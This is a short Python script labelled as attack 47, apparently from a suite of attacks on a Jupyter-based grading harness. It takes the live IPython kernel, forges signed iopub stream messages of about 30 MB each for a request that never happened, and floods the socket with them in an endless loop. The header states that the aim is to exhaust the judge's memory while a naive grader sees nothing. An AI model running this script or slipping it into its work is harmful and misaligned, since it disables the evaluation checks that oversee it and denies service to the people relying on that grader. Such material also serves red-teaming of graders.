# attack: 47
# title: 30 MB messages for a request nobody made, as fast as they can be sent
# success: memory of the judge
# unshown: the naive grader receives no messages
import threading

import zmq

kernel = get_ipython().kernel
parent = {"msg_id": "nobody", "msg_type": "x", "date": "", "session": "", "username": ""}
body = b"[" + b"[]," * 9_000_000 + b"0]"
frames = kernel.session.serialize(kernel.session.msg("stream", {}, parent=parent))
real = kernel.iopub_socket
raw = getattr(kernel.iopub_thread, "socket", None)


def _flood():
    while True:
        try:
            message = kernel.session.msg("stream", {}, parent=parent)
            parts = [kernel.session.pack(message[k]) for k in ("header", "parent_header")]
            parts += [b"{}", body]
            signed = [b"x", b"<IDS|MSG>", kernel.session.sign(parts), *parts]
            raw.send_multipart(signed, copy=False, flags=zmq.NOBLOCK)
        except zmq.ZMQError:
            pass


_flood()
